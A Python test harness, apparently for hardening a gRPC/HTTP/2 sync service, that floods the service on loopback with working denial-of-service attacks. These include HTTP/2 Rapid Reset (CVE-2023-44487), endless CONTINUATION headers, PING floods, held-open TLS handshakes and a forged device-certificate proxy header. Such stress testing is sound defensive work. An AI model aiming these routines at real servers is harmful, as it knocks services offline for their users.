"""One attack on a base, on loopback, for so many seconds; then everything that was opened is closed. Run by run.py, each
in a process of its own, in a cgroup of half a core (or pacing itself to half a core: --paced), with a limit of memory.

    attackers.py KIND --port N --seconds S [--identity DIR] [--from ADDRESS] [--paced]

HTTP/2 is written by hand (RFC 9113, header fields as literals, RFC 7541 section 6.2.2): what is sent here no library would.
Prints how often it did what, as JSON.
"""
import argparse
import json
import os
import pathlib
import resource
import select
import socket
import ssl
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION, DATA = 1, 3, 4, 6, 9, 0
END_STREAM, END_HEADERS = 1, 4
MEMORY = 512 << 20


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


PATH = b"/opgang.v1.SyncService/Sync"
SYNC = (b"\x83\x87\x04" + bytes([len(PATH)]) + PATH + b"\x01\x09localhost" +
        literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers"))


def message(number, content):
    """A SyncRequest with field `number` set, framed as gRPC does."""
    body = bytes([number << 3 | 2, len(content)]) + content
    return b"\0" + struct.pack(">I", len(body)) + body


def hello():
    """A Hello of nobody: protocol 1, a replica and a token out of thin air."""
    content = b"\x08\x01" + b"\x1a\x10" + os.urandom(16) + b"\x22\x20" + os.urandom(32)
    return message(1, content)


HEARTBEAT = message(4, b"\x08\x01")


class Attack:
    def __init__(self, args):
        self.args = args
        self.begun = time.monotonic()
        self.counts = {}
        self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        self.context.check_hostname = False
        self.context.verify_mode = ssl.CERT_NONE
        self.context.set_alpn_protocols(["h2"])
        if args.identity:
            self.context.load_cert_chain(pathlib.Path(args.identity) / "device.pem")

    def count(self, what, by=1):
        self.counts[what] = self.counts.get(what, 0) + by

    def left(self):
        """Seconds; a paced attacker first sleeps for as long as it has computed."""
        passed = time.monotonic() - self.begun
        if self.args.paced:
            ahead = 2 * time.process_time() - passed
            if ahead > 0:
                time.sleep(ahead)
        return self.args.seconds - (time.monotonic() - self.begun)

    def dial(self, number=0):
        """A connection; `--from 127.0.1.0/24` spreads over its addresses."""
        one = socket.socket()
        source = self.args.source
        if source.endswith("/24"):
            source = source[:-4] + str(number % 250 + 1)
        one.bind((source, 0))
        one.settimeout(2)
        one.connect(("127.0.0.1", self.args.port))
        return one

    def tls(self, number=0):
        return self.context.wrap_socket(self.dial(number), server_hostname="localhost")

    def http2(self, settings=b""):
        one = self.tls()
        one.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        self.count("connections")
        return one

    def over_and_over(self, once):
        """Until the time is over; what the base cuts or refuses is counted and tried anew."""
        while self.left() > 0:
            try:
                once()
            except (OSError, ssl.SSLError):
                self.count("cut or refused")
                time.sleep(0.005)

    # Strangers.

    def hold(self):
        """A thousand connections that begin a handshake, a byte now and then, and begin anew where they are cut."""
        open_ones, number = {}, 0
        begin = b"\x16\x03\x01\x02\x00\x01"
        while self.left() > 0:
            while len(open_ones) < 1000 and self.left() > 0:
                try:
                    one = self.dial(number)
                    one.send(begin)
                    open_ones[one.fileno()] = one
                    self.count("connections")
                except OSError:
                    self.count("cut or refused")
                number += 1
            poll = select.poll()
            for fd in open_ones:
                poll.register(fd, select.POLLIN)
            for fd, _ in poll.poll(100):
                open_ones.pop(fd).close()
                self.count("cut or refused")
            for one in list(open_ones.values())[:20]:
                try:
                    one.send(b"\0")
                except OSError:
                    pass
        self.counts["open at the end"] = len(open_ones)

    def connect(self):
        """Connects and hangs up."""
        def once():
            self.dial(self.counts.get("connections", 0)).close()
            self.count("connections")
        self.over_and_over(once)

    def handshake(self):
        """Whole TLS handshakes, each at the base's expense."""
        def once():
            self.tls().close()
            self.count("handshakes")
        self.over_and_over(once)

    def header(self):
        """A header block that never ends, over one connection (--once) or again and again. A device calls first: the base then
        knows whose connection it is, and lets it bring more."""
        block = literal(b"x", b"y" * 100) * 100
        chunk = frame(CONTINUATION, 0, 3, block) * 8

        def once():
            one = self.http2()
            try:
                if self.args.identity:
                    one.sendall(frame(HEADERS, END_HEADERS, 1, SYNC) + frame(DATA, END_STREAM, 1, hello()))
                    time.sleep(0.05)
                one.sendall(frame(HEADERS, 0, 3, SYNC))
                while self.left() > 0:
                    one.sendall(chunk)
                    self.count("bytes", len(chunk))
            finally:
                one.close()
        if not self.args.once:
            return self.over_and_over(once)
        try:
            once()
        except (OSError, ssl.SSLError):
            self.count("cut or refused")
        while self.left() > 0:
            time.sleep(0.1)

    # Devices that are enrolled.

    def sessions(self):
        """Sessions that say Hello and go."""
        def once():
            one = self.http2()
            try:
                for stream in range(1, 4000, 2):
                    one.sendall(frame(HEADERS, END_HEADERS, stream, SYNC) + frame(DATA, END_STREAM, stream, hello()))
                    self.count("hellos")
                    if self.left() <= 0:
                        break
            finally:
                one.close()
        self.over_and_over(once)

    def messages(self):
        """One session full of heartbeats. Flow control is respected: the base reads as fast as it likes."""
        def once():
            one = self.http2()
            window = [65535, 65535]
            try:
                one.sendall(frame(HEADERS, END_HEADERS, 1, SYNC))
                one.setblocking(False)
                buffer, waiting = b"", b""
                while self.left() > 0:
                    try:
                        buffer += one.recv(65536) or self.hung_up()
                    except (ssl.SSLWantReadError, BlockingIOError):
                        pass
                    buffer = self.note_windows(buffer, window)
                    if not waiting and min(window) > len(HEARTBEAT) * 50:
                        waiting = frame(DATA, 0, 1, HEARTBEAT * 50)
                        window[0] -= len(HEARTBEAT) * 50
                        window[1] -= len(HEARTBEAT) * 50
                        self.count("messages", 50)
                    elif not waiting:
                        select.select([one], [], [], 0.05)
                    try:
                        waiting = waiting[one.send(waiting):] if waiting else b""
                    except (ssl.SSLWantWriteError, BlockingIOError):
                        select.select([], [one], [], 0.05)
            finally:
                one.close()
        self.over_and_over(once)

    @staticmethod
    def hung_up():
        raise OSError("hung up")

    @staticmethod
    def note_windows(buffer, window):
        while len(buffer) >= 9 and len(buffer) >= 9 + int.from_bytes(buffer[:3], "big"):
            size, kind, stream = int.from_bytes(buffer[:3], "big"), buffer[3], int.from_bytes(buffer[5:9], "big")
            if kind == 8:
                window[0 if stream == 0 else 1] += int.from_bytes(buffer[9:13], "big")
            if kind == 7 or kind == RST_STREAM:
                Attack.hung_up()
            buffer = buffer[9 + size:]
        return buffer

    def reset(self):
        """Streams that are begun and reset at once (CVE-2023-44487)."""
        def once():
            one = self.http2()
            try:
                for stream in range(1, 1 << 30, 2):
                    one.sendall(frame(HEADERS, END_HEADERS, stream, SYNC) +
                                frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
                    self.count("streams")
                    if self.left() <= 0:
                        break
            finally:
                one.close()
        self.over_and_over(once)

    def knock(self):
        """Whether the other end speaks HTTP/2 with this certificate: it begins with SETTINGS."""
        try:
            self.counts["let in"] = self.http2().recv(65536)[3:4] == bytes([SETTINGS])
        except (OSError, ssl.SSLError):
            self.counts["let in"] = False

    def forge(self):
        """A Hello with somebody else's certificate in the proxy's header, of an authority of its own making. Where the base
        answers a store that it knows, the proxy has put the true one in its place."""
        one = self.http2()
        forged = literal(b"opgang-device-certificate", b"forged")
        one.sendall(frame(HEADERS, END_HEADERS, 1, SYNC + forged) + frame(DATA, END_STREAM, 1, hello()))
        heard = b""
        while self.left() > 0 and b"grpc-status" not in heard and len(heard) < 1 << 20:
            try:
                heard += one.recv(65536) or self.hung_up()
            except (OSError, ssl.SSLError):
                break
            self.counts["known"] = self.counts.get("known", False) or self.has_welcome(heard)
            if self.counts["known"]:
                break
        one.close()

    @staticmethod
    def has_welcome(heard):
        """A DATA frame whose gRPC message is a SyncResponse with field 1, Welcome."""
        while len(heard) >= 9 and len(heard) >= 9 + int.from_bytes(heard[:3], "big"):
            size, kind = int.from_bytes(heard[:3], "big"), heard[3]
            if kind == DATA and size > 5 and heard[9 + 5] == 1 << 3 | 2:
                return True
            heard = heard[9 + size:]
        return False

    def ping(self):
        """Pings and empty settings."""
        chunk = (frame(PING, 0, 0, b"12345678") + frame(SETTINGS, 0, 0)) * 400

        def once():
            one = self.http2()
            try:
                while self.left() > 0:
                    one.sendall(chunk)
                    self.count("frames", 800)
            finally:
                one.close()
        self.over_and_over(once)


class FreezingRelay:
    """Between devices and the base: brings so many bytes to each device, then no more, and hangs up on nobody."""

    def __init__(self, to_port, frozen_after):
        self.to_port, self.frozen_after = to_port, frozen_after
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]

    def serve(self, until):
        other, brought = {}, {}
        sockets = [self.listener]
        while time.monotonic() < until:
            for one in select.select(sockets, [], [], 0.2)[0]:
                if one is self.listener:
                    device, _ = self.listener.accept()
                    base = socket.create_connection(("127.0.0.1", self.to_port))
                    other[device], other[base], brought[base] = base, device, 0
                    sockets += [device, base]
                    continue
                data = one.recv(4096)
                if one in brought:
                    brought[one] += len(data)
                if not data or brought.get(one, 0) > self.frozen_after:
                    sockets.remove(one)
                try:
                    other[one].sendall(data)
                except OSError:
                    pass
        return len(brought)


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("kind")
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--seconds", type=float, required=True)
    parser.add_argument("--identity")
    parser.add_argument("--from", dest="source", default="127.0.0.2")
    parser.add_argument("--paced", action="store_true")
    parser.add_argument("--once", action="store_true")
    args = parser.parse_args()
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(4096, most), most))
    if args.kind == "relay":
        relay = FreezingRelay(args.port, frozen_after=24 << 10)
        print(relay.port, flush=True)
        print(json.dumps({"connections": relay.serve(time.monotonic() + args.seconds)}))
        return
    attack = Attack(args)
    getattr(attack, args.kind)()
    print(json.dumps(attack.counts))


if __name__ == "__main__":
    sys.exit(main())
